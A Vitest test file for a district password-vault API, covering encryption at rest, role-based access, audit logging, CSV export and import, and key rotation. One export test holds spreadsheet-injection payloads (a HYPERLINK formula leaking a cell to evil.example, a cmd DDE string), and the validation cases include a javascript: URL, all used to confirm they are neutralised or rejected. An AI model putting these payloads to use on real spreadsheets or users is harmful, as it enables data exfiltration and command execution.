import { and, desc, eq, inArray } from 'drizzle-orm';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addDays, isoDay } from '../../domain/license-rules.ts';
import { BITWARDEN_COLUMNS, VAULT_MESSAGES as M, type VaultEntry } from '../../domain/vault.ts';
import { auditLog, users, vaultDistrictKeys, vaultEntries } from '../../server/db/schema/index.ts';
import { rotateMasterKey } from '../../server/features/vault/index.ts';
import { makeDistrict, makeUser, makeWorld, signIn, TEST_PASSWORD, type World } from '../support/fixtures.ts';
import { call, createAppOn, createTestApp, TEST_VAULT_KEY, type TestApp } from '../support/test-app.ts';

let t: TestApp;
let w: World;
let techFacilities: string;
let viewerFacilities: string;
let providerInView: string;

beforeAll(async () => {
  t = await createTestApp();
  w = await makeWorld(t.app, t.db);
  // techA belongs to no department; a technician and a viewer of Facilities join.
  const tech = await makeUser(t.db, { role: 'technician', districtId: w.districtA.id });
  const viewer = await makeUser(t.db, { role: 'viewer', districtId: w.districtA.id });
  await t.db.update(users).set({ department: 'Facilities' }).where(eq(users.id, tech.id));
  await t.db.update(users).set({ department: 'Facilities' }).where(eq(users.id, viewer.id));
  techFacilities = await signIn(t.app, tech.email);
  viewerFacilities = await signIn(t.app, viewer.email);
  providerInView = await signIn(t.app, w.people.provider.email);
  const view = await call(t.app, 'POST', '/api/auth/view', {
    cookie: providerInView,
    body: { districtId: w.districtA.id },
  });
  if (view.status !== 200) throw new Error('could not enter the district view');
});
afterAll(() => t.close());

type Method = 'GET' | 'POST' | 'PUT' | 'DELETE';
const as =
  (cookie: () => string | undefined) =>
  // biome-ignore lint/suspicious/noExplicitAny: tests read answers loosely and assert on them.
  <T = any>(method: Method, url: string, body?: unknown) =>
    call<T>(t.app, method, url, { cookie: cookie(), body });
const admin = as(() => w.cookies.adminA);
const tech = as(() => w.cookies.techA);
const viewer = as(() => w.cookies.viewerA);
const adminB = as(() => w.cookies.adminB);
const facilitiesTech = as(() => techFacilities);
const facilitiesViewer = as(() => viewerFacilities);
const provider = as(() => providerInView);

const base = {
  title: 'PowerSchool SIS',
  username: 'ps-admin',
  password: 'Tr0ub4dor&3-correct-horse-battery',
  url: 'https://powerschool.example.org/admin',
  category: 'Student Information System',
  department: 'IT Administration',
  accessLevel: 'admin',
};
let counter = 0;
async function add(body: Record<string, unknown> = {}, who = admin): Promise<VaultEntry> {
  counter += 1;
  const res = await who<VaultEntry>('POST', '/api/vault', {
    ...base,
    title: `${base.title} ${counter}`,
    ...body,
  });
  if (res.status !== 201) throw new Error(`could not add: ${res.status} ${JSON.stringify(res.body)}`);
  return res.body;
}
const reveal = (id: string, who = admin, body: Record<string, unknown> = { field: 'password' }) =>
  who('POST', `/api/vault/${id}/reveal`, body);
const listOf = async (who = admin) => (await who<VaultEntry[]>('GET', '/api/vault')).body;

describe('add, list and reveal', () => {
  it('adds an entry whose list item carries no secret, and reveals it on request', async () => {
    const res = await admin<VaultEntry>('POST', '/api/vault', {
      ...base,
      title: 'Firewall',
      password: 'Very-long-and-random: q8#Lm2$Zr!x',
      twoFactorBackup: 'code-one\ncode-two',
      notes: 'Console in rack 2',
      sharedWith: ['Network team'],
      expiryDate: addDays(isoDay(), 10),
    });
    expect(res.status).toBe(201);
    expect(res.body).toMatchObject({
      title: 'Firewall',
      username: 'ps-admin',
      accessLevel: 'admin',
      strength: 'strong',
      isExpired: false,
      isExpiringSoon: true,
      isFavorite: false,
      hasTwoFactorBackup: true,
      hasNotes: true,
      sharedWith: ['Network team'],
      lastAccessedAt: null,
    });
    const text = JSON.stringify(await listOf());
    for (const secret of ['q8#Lm2$Zr!x', 'code-one', 'rack 2']) expect(text).not.toContain(secret);

    const shown = await reveal(res.body.id);
    expect(shown.status).toBe(200);
    expect(shown.body).toEqual({ value: 'Very-long-and-random: q8#Lm2$Zr!x' });
    expect(shown.headers['cache-control']).toBe('no-store');
    expect((await reveal(res.body.id, admin, { field: 'twoFactorBackup' })).body.value).toBe(
      'code-one\ncode-two',
    );
    expect((await reveal(res.body.id, admin, { field: 'notes' })).body.value).toBe('Console in rack 2');
    const after = (await listOf()).find((e) => e.id === res.body.id)!;
    expect(after.lastAccessedAt).not.toBeNull();
  });

  it('measures strength on the server', async () => {
    expect((await add({ password: 'password1' })).strength).toBe('weak');
    expect((await add({ password: 'Blue-Chair-19' })).strength).not.toBe('weak');
  });

  it('refuses bad input with the domain messages', async () => {
    const cases: [Record<string, unknown>, string][] = [
      [{ title: '' }, M.titleRequired],
      [{ title: undefined }, M.titleRequired],
      [{ password: '' }, M.passwordRequired],
      [{ password: undefined }, M.passwordRequired],
      [{ url: 'javascript:alert(1)' }, M.invalidUrl],
      [{ url: 'ftp://files.example.org' }, M.invalidUrl],
      [{ category: 'Games' }, M.invalidCategory],
      [{ department: 'Cafeteria' }, M.invalidDepartment],
      [{ accessLevel: 'everyone' }, M.invalidAccessLevel],
      [{ expiryDate: '2026-13-45' }, M.invalidDate],
      [{ sharedWith: Array.from({ length: 21 }, (_, i) => `r${i}`) }, M.sharedWithMax],
      [{ password: 'x'.repeat(1001) }, M.tooLong(1000)],
    ];
    for (const [patch, message] of cases) {
      const res = await admin('POST', '/api/vault', { ...base, ...patch });
      expect(res.status, JSON.stringify(patch)).toBe(400);
      expect(res.body.message, JSON.stringify(patch)).toBe(message);
    }
    const entry = await add();
    expect((await reveal(entry.id, admin, { field: 'pin' })).body.message).toBe(M.invalidField);
    expect((await admin('POST', `/api/vault/${entry.id}/events`, { action: 'print' })).body.message).toBe(
      M.invalidAction,
    );
    expect((await admin('POST', '/api/vault/export', {})).body.message).toBe(M.exportPasswordRequired);
    const badSettings = await admin('PUT', '/api/vault/settings', {
      requireRevealReason: false,
      defaultExpiryDays: 0,
      exportRoles: [],
    });
    expect(badSettings.body.message).toBe(M.expiryDays);
    const badRoles = await admin('PUT', '/api/vault/settings', {
      requireRevealReason: false,
      defaultExpiryDays: null,
      exportRoles: ['viewer'],
    });
    expect(badRoles.body.message).toBe(M.exportRoles);
    expect((await reveal(entry.id, admin, { field: 'twoFactorBackup' })).body.message).toBe(M.noSecret);
  });

  it('edits: keeps secrets left out, replaces the password, clears notes', async () => {
    const entry = await add({ notes: 'old notes', password: 'First-Password-42!' });
    const { password: _kept, ...fields } = base;
    const res = await admin<VaultEntry>('PUT', `/api/vault/${entry.id}`, {
      ...fields,
      title: 'Renamed',
      notes: null,
    });
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ title: 'Renamed', hasNotes: false });
    expect((await reveal(entry.id)).body.value).toBe('First-Password-42!');
    await admin('PUT', `/api/vault/${entry.id}`, { ...base, title: 'Renamed', password: 'abc' });
    expect((await reveal(entry.id)).body.value).toBe('abc');
    expect((await listOf()).find((e) => e.id === entry.id)!.strength).toBe('weak');
  });

  it('deletes, and the deletion stays in the log', async () => {
    const entry = await add();
    expect((await admin('DELETE', `/api/vault/${entry.id}`)).status).toBe(200);
    expect((await listOf()).some((e) => e.id === entry.id)).toBe(false);
    expect((await reveal(entry.id)).status).toBe(404);
  });
});

describe('encryption at rest', () => {
  it('stores no plaintext secret in the table', async () => {
    const entry = await add({
      password: 'Plain-Text-Never-Stored-77',
      twoFactorBackup: 'backup-never-stored',
      notes: 'notes-never-stored',
    });
    const [row] = await t.db.select().from(vaultEntries).where(eq(vaultEntries.id, entry.id));
    const raw = JSON.stringify(row);
    for (const secret of ['Plain-Text-Never-Stored-77', 'backup-never-stored', 'notes-never-stored'])
      expect(raw).not.toContain(secret);
    expect(row!.passwordSealed).toMatch(/^v1:/);
    expect(row!.passwordFingerprint).not.toContain('Plain');
    const [key] = await t.db
      .select()
      .from(vaultDistrictKeys)
      .where(eq(vaultDistrictKeys.districtId, w.districtA.id));
    expect(key!.wrappedKey).toMatch(/^v1:/);
  });

  it('a ciphertext moved to another entry, field or district does not open', async () => {
    const source = await add({ password: 'Moved-Secret-1' });
    const target = await add({ password: 'Other-Secret-2', notes: 'n' });
    const [row] = await t.db.select().from(vaultEntries).where(eq(vaultEntries.id, source.id));
    await t.db
      .update(vaultEntries)
      .set({ passwordSealed: row!.passwordSealed })
      .where(eq(vaultEntries.id, target.id));
    const moved = await reveal(target.id);
    expect(moved.status).toBe(500);
    expect(moved.body.message).toBe(M.cannotOpen);
    expect(JSON.stringify(moved.body)).not.toContain('Moved-Secret-1');
    // Into the notes of the same entry: the field is part of what it is sealed to.
    await t.db
      .update(vaultEntries)
      .set({ notesSealed: row!.passwordSealed })
      .where(eq(vaultEntries.id, source.id));
    expect((await reveal(source.id, admin, { field: 'notes' })).status).toBe(500);

    // Into district B (same entry id is impossible; the row moves with its ciphertext).
    const b = await add({ password: 'B-secret' }, adminB);
    await t.db
      .update(vaultEntries)
      .set({ passwordSealed: row!.passwordSealed })
      .where(eq(vaultEntries.id, b.id));
    expect((await reveal(b.id, adminB)).status).toBe(500);
    await t.db.update(vaultEntries).set({ districtId: w.districtB.id }).where(eq(vaultEntries.id, source.id));
    expect((await reveal(source.id, adminB)).status).toBe(500);
    // The damaged rows go, so the exports below can open every secret.
    await t.db.delete(vaultEntries).where(inArray(vaultEntries.id, [source.id, target.id, b.id]));
  });
});

describe('who sees what', () => {
  let adminOnly: VaultEntry;
  let facilities: VaultEntry;
  let allStaff: VaultEntry;
  beforeAll(async () => {
    adminOnly = await add({ title: 'Admin only entry', accessLevel: 'admin' });
    facilities = await add({
      title: 'Door controllers',
      accessLevel: 'department',
      department: 'Facilities',
    });
    allStaff = await add({ title: 'Wi-Fi guest', accessLevel: 'public' });
  });
  const ids = (list: VaultEntry[]) => list.map((e) => e.id);

  it('administrators see every entry', async () => {
    expect(ids(await listOf())).toEqual(expect.arrayContaining([adminOnly.id, facilities.id, allStaff.id]));
  });

  it('technicians see All Staff entries and their department’s', async () => {
    const mine = ids(await listOf(tech));
    expect(mine).toContain(allStaff.id);
    expect(mine).not.toContain(adminOnly.id);
    expect(mine).not.toContain(facilities.id);
    const theirs = ids(await listOf(facilitiesTech));
    expect(theirs).toEqual(expect.arrayContaining([allStaff.id, facilities.id]));
    expect(theirs).not.toContain(adminOnly.id);
    expect((await reveal(facilities.id, facilitiesTech)).status).toBe(200);
    expect((await reveal(allStaff.id, tech)).status).toBe(200);
  });

  it('an entry above the caller’s level is 404, whatever they ask of it', async () => {
    for (const [method, url, body] of [
      ['POST', `/api/vault/${adminOnly.id}/reveal`, { field: 'password' }],
      ['POST', `/api/vault/${adminOnly.id}/events`, { action: 'copy_username' }],
      ['PUT', `/api/vault/${adminOnly.id}/favorite`, { isFavorite: true }],
      ['PUT', `/api/vault/${adminOnly.id}`, { ...base, accessLevel: 'public' }],
      ['DELETE', `/api/vault/${adminOnly.id}`, undefined],
    ] as const) {
      const res = await tech(method, url, body);
      expect(res.status, `${method} ${url}`).toBe(404);
      expect(res.body.message).toBe(M.notFound);
    }
    expect((await reveal(facilities.id, tech)).status).toBe(404);
  });

  it('a technician cannot save an entry they would not see', async () => {
    const res = await tech('POST', '/api/vault', { ...base, accessLevel: 'admin' });
    expect(res.status).toBe(400);
    expect(res.body.message).toBe(M.levelHidden);
  });

  it('viewers read the list of their department but never a secret', async () => {
    expect(ids(await listOf(viewer))).toEqual([]);
    expect(ids(await listOf(facilitiesViewer))).toEqual([facilities.id]);
    const res = await reveal(facilities.id, facilitiesViewer);
    expect(res.status).toBe(403);
    expect(JSON.stringify(res.body)).not.toContain(base.password);
    expect(
      (await facilitiesViewer('POST', `/api/vault/${facilities.id}/events`, { action: 'copy_password' }))
        .status,
    ).toBe(403);
    expect(
      (await facilitiesViewer('POST', `/api/vault/${facilities.id}/events`, { action: 'copy_username' }))
        .status,
    ).toBe(200);
    expect((await facilitiesViewer('POST', '/api/vault/export', { password: TEST_PASSWORD })).status).toBe(
      403,
    );
  });

  it('another district’s entry is 404', async () => {
    expect((await reveal(allStaff.id, adminB)).status).toBe(404);
    expect((await adminB('GET', `/api/vault/${allStaff.id}/log`)).status).toBe(404);
    expect((await admin('GET', `/api/vault?districtId=${w.districtB.id}`)).status).toBe(404);
  });

  it('Five Star reveals only inside the district view, audited under its own name', async () => {
    const outside = await call(t.app, 'GET', `/api/vault?districtId=${w.districtA.id}`, {
      cookie: w.cookies.provider,
    });
    expect(outside.status).toBe(403);
    expect((await reveal(adminOnly.id, provider)).status).toBe(200);
    const [audit] = await t.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.action, 'vault.revealed'), eq(auditLog.actorId, w.people.provider.id)))
      .orderBy(desc(auditLog.at))
      .limit(1);
    expect(audit).toMatchObject({ districtId: w.districtA.id, target: `${adminOnly.title} (password)` });
    expect(audit!.actorLabel).toContain('(Five Star)');
    expect(JSON.stringify(audit)).not.toContain(base.password);
  });
});

describe('access log, favorites, reuse and cards', () => {
  it('records reveals, copies and opened links with who, address and reason', async () => {
    const entry = await add();
    await reveal(entry.id, admin, { field: 'password', reason: 'Quarterly audit' });
    await admin('POST', `/api/vault/${entry.id}/events`, { action: 'copy_password' });
    await admin('POST', `/api/vault/${entry.id}/events`, { action: 'open_url' });
    const log = await admin('GET', `/api/vault/${entry.id}/log`);
    expect(log.status).toBe(200);
    expect(log.body.map((e: { action: string }) => e.action)).toEqual([
      'open_url',
      'copy_password',
      'reveal_password',
      'create',
    ]);
    expect(log.body[2]).toMatchObject({ reason: 'Quarterly audit', actorLabel: 'Test district_admin' });
    expect(log.body[2].ipAddress).toBeTruthy();
    expect(JSON.stringify(log.body)).not.toContain(base.password);
    expect((await tech('GET', `/api/vault/${entry.id}/log`)).status).toBe(403);
  });

  it('records every one of many reveals at once, each with its audit entry; the last access is written at most once a minute', async () => {
    const entry = await add({ title: 'Door controller (many reveals)' });
    const answers = await Promise.all(Array.from({ length: 10 }, () => reveal(entry.id)));
    expect(answers.map((a) => a.status)).toEqual(Array(10).fill(200));
    const log = await admin('GET', `/api/vault/${entry.id}/log`);
    expect(log.body.filter((e: { action: string }) => e.action === 'reveal_password')).toHaveLength(10);
    const audits = await t.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.action, 'vault.revealed'), eq(auditLog.target, `${entry.title} (password)`)));
    expect(audits.filter((a) => a.districtId === w.districtA.id)).toHaveLength(10);

    const lastAccess = async () =>
      (await t.db.select().from(vaultEntries).where(eq(vaultEntries.id, entry.id)))[0]!.lastAccessedAt;
    const first = await lastAccess();
    expect(first).not.toBeNull();
    await reveal(entry.id);
    expect(await lastAccess()).toEqual(first);
    // A minute later the next use writes it again.
    await t.db
      .update(vaultEntries)
      .set({ lastAccessedAt: new Date(Date.now() - 61_000) })
      .where(eq(vaultEntries.id, entry.id));
    await admin('POST', `/api/vault/${entry.id}/events`, { action: 'copy_username' });
    expect((await lastAccess())!.getTime()).toBeGreaterThan(Date.now() - 10_000);
  });

  it('requires a reason when the district says so', async () => {
    const entry = await add({ accessLevel: 'public' });
    const save = (requireRevealReason: boolean) =>
      admin('PUT', '/api/vault/settings', { requireRevealReason, defaultExpiryDays: null, exportRoles: [] });
    expect((await save(true)).body).toMatchObject({ requireRevealReason: true });
    expect((await tech('GET', '/api/vault/settings')).body.requireRevealReason).toBe(true);
    const without = await reveal(entry.id, tech);
    expect(without.status).toBe(400);
    expect(without.body.message).toBe(M.reasonRequired);
    expect((await reveal(entry.id, tech, { field: 'password', reason: 'Reset printer' })).status).toBe(200);
    expect(
      (
        await tech('PUT', '/api/vault/settings', {
          requireRevealReason: false,
          exportRoles: [],
          defaultExpiryDays: null,
        })
      ).status,
    ).toBe(403);
    await save(false);
  });

  it('gives new entries the default expiry', async () => {
    await admin('PUT', '/api/vault/settings', {
      requireRevealReason: false,
      defaultExpiryDays: 90,
      exportRoles: [],
    });
    expect((await add()).expiryDate).toBe(addDays(isoDay(), 90));
    expect((await add({ expiryDate: '2030-01-01' })).expiryDate).toBe('2030-01-01');
    await admin('PUT', '/api/vault/settings', {
      requireRevealReason: false,
      defaultExpiryDays: null,
      exportRoles: [],
    });
  });

  it('keeps favorites per user', async () => {
    const entry = await add({ accessLevel: 'public' });
    expect((await admin('PUT', `/api/vault/${entry.id}/favorite`, { isFavorite: true })).body).toEqual({
      isFavorite: true,
    });
    expect((await listOf()).find((e) => e.id === entry.id)!.isFavorite).toBe(true);
    expect((await listOf(tech)).find((e) => e.id === entry.id)!.isFavorite).toBe(false);
    await admin('PUT', `/api/vault/${entry.id}/favorite`, { isFavorite: false });
    expect((await listOf()).find((e) => e.id === entry.id)!.isFavorite).toBe(false);
  });

  it('finds a reused password by its fingerprint, only among entries the caller sees', async () => {
    const one = await add({ password: 'Shared-Among-Two-99', accessLevel: 'public' });
    expect(one.isReused).toBe(false);
    const hidden = await add({ password: 'Shared-Among-Two-99', accessLevel: 'admin' });
    expect(hidden.isReused).toBe(true);
    expect((await listOf()).find((e) => e.id === one.id)!.isReused).toBe(true);
    // A technician cannot learn that an admin-only entry has the same password.
    expect((await listOf(tech)).find((e) => e.id === one.id)!.isReused).toBe(false);
    const [a, b] = await t.db
      .select({ f: vaultEntries.passwordFingerprint })
      .from(vaultEntries)
      .where(eq(vaultEntries.title, one.title));
    expect(a?.f).toBeDefined();
    expect(b).toBeUndefined();
  });

  it('answers the four cards over what the caller sees', async () => {
    const d = await makeDistrict(t.db, { serviceLevel: 'ascend' });
    const a = await makeUser(t.db, { role: 'district_admin', districtId: d.id });
    const cookie = await signIn(t.app, a.email);
    const mine = as(() => cookie);
    await add({ password: 'weak' }, mine);
    const expired = await add(
      { expiryDate: addDays(isoDay(), -1), password: 'Strong-Enough-Passphrase-71!' },
      mine,
    );
    await add({ sharedWith: ['Principal'], password: 'Another-Strong-Passphrase-72!' }, mine);
    await reveal(expired.id, mine);
    expect((await mine('GET', '/api/vault/summary')).body).toEqual({
      total: 3,
      securityAlerts: 2,
      recentlyAccessed: 1,
      shared: 1,
    });
  });

  it('is an Ascend feature', async () => {
    const d = await makeDistrict(t.db, { serviceLevel: 'analysis' });
    const a = await makeUser(t.db, { role: 'district_admin', districtId: d.id });
    const res = await call(t.app, 'GET', '/api/vault', { cookie: await signIn(t.app, a.email) });
    expect(res.status).toBe(403);
  });
});

describe('export and import', () => {
  it('needs the password, writes Bitwarden’s columns and is audited', async () => {
    const entry = await add({ password: 'Exported,"Quoted"-Pass', notes: 'line1\nline2' });
    const wrong = await admin('POST', '/api/vault/export', { password: 'not-it' });
    expect(wrong.status).toBe(400);
    expect(wrong.body.message).toBe(M.wrongPassword);
    const res = await call(t.app, 'POST', '/api/vault/export', {
      cookie: w.cookies.adminA,
      body: { password: TEST_PASSWORD },
    });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toContain('text/csv');
    expect(res.headers['cache-control']).toBe('no-store');
    const parsed = Papa.parse<Record<string, string>>(res.body as string, {
      header: true,
      skipEmptyLines: true,
    });
    expect(parsed.meta.fields).toEqual([...BITWARDEN_COLUMNS]);
    const row = parsed.data.find((r) => r.name === entry.title)!;
    expect(row).toMatchObject({
      login_password: 'Exported,"Quoted"-Pass',
      notes: 'line1\nline2',
      type: 'login',
    });
    const [audit] = await t.db
      .select()
      .from(auditLog)
      .where(eq(auditLog.action, 'vault.exported'))
      .orderBy(desc(auditLog.at))
      .limit(1);
    expect(audit).toMatchObject({ districtId: w.districtA.id, actorId: w.people.adminA.id });
  });

  it('neutralises spreadsheet formulas in every column but the password (issue 26.6)', async () => {
    const risky = {
      title: '=HYPERLINK("https://evil.example/?"&A1,"Open me")',
      username: "=cmd|' /C calc'!A0",
      notes: '+SUM(1+1)\n-then more',
      password: '=Legit-Secret@Start',
    };
    await add({ ...risky, url: undefined });
    const res = await call(t.app, 'POST', '/api/vault/export', {
      cookie: w.cookies.adminA,
      body: { password: TEST_PASSWORD },
    });
    const rows = Papa.parse<Record<string, string>>(res.body as string, {
      header: true,
      skipEmptyLines: true,
    }).data;
    const row = rows.find((r) => r.login_password === risky.password)!;
    expect(row).toMatchObject({
      name: `'${risky.title}`,
      login_username: `'${risky.username}`,
      notes: `'${risky.notes}`,
      login_password: risky.password,
    });
    // No cell but the password starts a formula.
    for (const r of rows)
      for (const [column, value] of Object.entries(r))
        if (column !== 'login_password') expect(value, `${column}: ${value}`).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('lets technicians export only when the district allows it, and only what they see', async () => {
    expect((await tech('POST', '/api/vault/export', { password: TEST_PASSWORD })).body.message).toBe(
      M.exportNotAllowed,
    );
    await admin('PUT', '/api/vault/settings', {
      requireRevealReason: false,
      defaultExpiryDays: null,
      exportRoles: ['technician'],
    });
    const res = await call(t.app, 'POST', '/api/vault/export', {
      cookie: w.cookies.techA,
      body: { password: TEST_PASSWORD },
    });
    expect(res.status).toBe(200);
    const names = Papa.parse<Record<string, string>>(res.body as string, {
      header: true,
      skipEmptyLines: true,
    }).data.map((r) => r.name);
    expect(names).not.toContain('Admin only entry');
    expect(names).toContain('Wi-Fi guest');
    await admin('PUT', '/api/vault/settings', {
      requireRevealReason: false,
      defaultExpiryDays: null,
      exportRoles: [],
    });
  });

  it('imports the export’s CSV after a preview without secrets', async () => {
    const d = await makeDistrict(t.db, { serviceLevel: 'ascend' });
    const a = await makeUser(t.db, { role: 'district_admin', districtId: d.id });
    const cookie = await signIn(t.app, a.email);
    const mine = as(() => cookie);
    const exported = await call(t.app, 'POST', '/api/vault/export', {
      cookie: w.cookies.adminA,
      body: { password: TEST_PASSWORD },
    });
    const csv = exported.body as string;
    const total = Papa.parse(csv, { header: true, skipEmptyLines: true }).data.length;
    const preview = await mine('POST', '/api/vault/import', { csv });
    expect(preview.status).toBe(200);
    expect(preview.body).toMatchObject({ dryRun: true, total, valid: total, created: 0, rejectedCount: 0 });
    expect(JSON.stringify(preview.body)).not.toContain('Exported,');
    expect((await listOf(mine)).length).toBe(0);
    const done = await mine('POST', '/api/vault/import', { csv, dryRun: false });
    expect(done.body).toMatchObject({ dryRun: false, created: total });
    const list = await listOf(mine);
    expect(list.length).toBe(total);
    const copy = list.find((e) => e.title === 'Wi-Fi guest')!;
    expect(copy.accessLevel).toBe('public');
    const log = await mine('GET', `/api/vault/${copy.id}/log`);
    expect(log.body.map((e: { action: string }) => e.action)).toEqual(['import']);
    const quoted = list.find((e) => e.username === 'ps-admin' && e.hasNotes)!;
    expect((await reveal(quoted.id, mine)).status).toBe(200);
    // A neutralised formula comes back as it was typed, the password untouched.
    const formula = list.find((e) => e.title.startsWith('=HYPERLINK('))!;
    expect(formula.username).toBe("=cmd|' /C calc'!A0");
    expect((await reveal(formula.id, mine)).body.value).toBe('=Legit-Secret@Start');
  });

  it('reports rejected rows and adds nothing', async () => {
    const csv = Papa.unparse({
      fields: [...BITWARDEN_COLUMNS],
      data: [
        ['', '', 'login', 'Good', '', '', '', 'https://ok.example.org', 'u', 'p', ''],
        ['', '', 'login', 'No password', '', '', '', '', 'u', '', ''],
        ['', '', 'login', 'Bad link', '', '', '', 'javascript:x', 'u', 'p', ''],
      ],
    });
    const before = (await listOf()).length;
    const preview = await admin('POST', '/api/vault/import', { csv });
    expect(preview.body).toMatchObject({ total: 3, valid: 1, rejectedCount: 2 });
    expect(preview.body.rejected).toEqual([
      { row: 3, title: 'No password', message: `password: ${M.passwordRequired}` },
      { row: 4, title: 'Bad link', message: `url: ${M.invalidUrl}` },
    ]);
    const real = await admin('POST', '/api/vault/import', { csv, dryRun: false });
    expect(real.status).toBe(400);
    expect(real.body.message).toBe(M.importHasErrors(2));
    expect((await listOf()).length).toBe(before);
    expect((await admin('POST', '/api/vault/import', { csv: 'a,b\n1,2' })).body.message).toBe(
      M.importColumns,
    );
    expect((await admin('POST', '/api/vault/import', { csv: 'name,login_password\n' })).body.message).toBe(
      M.importEmpty,
    );
  });
});

describe('master key rotation', () => {
  it('re-wraps the district keys; a server with the new key reads every secret back', async () => {
    const entry = await add({ password: 'Survives-Rotation-55' });
    const oldKey = Buffer.from(TEST_VAULT_KEY, 'base64');
    const newKey = Buffer.alloc(32, 9);
    const before = await t.db.select().from(vaultDistrictKeys);
    const done = await rotateMasterKey(t.db, oldKey, newKey);
    expect(done.districtKeys).toBe(before.length);
    const after = await t.db.select().from(vaultDistrictKeys);
    expect(after.map((k) => k.wrappedKey)).not.toEqual(before.map((k) => k.wrappedKey));

    const rotated = await createAppOn(t.database, { VAULT_KEY: newKey.toString('base64') });
    try {
      const res = await call(rotated.app, 'POST', `/api/vault/${entry.id}/reveal`, {
        cookie: w.cookies.adminA,
        body: { field: 'password' },
      });
      expect(res.body).toEqual({ value: 'Survives-Rotation-55' });
    } finally {
      await rotated.close();
      await rotateMasterKey(t.db, newKey, oldKey);
    }
  });
});
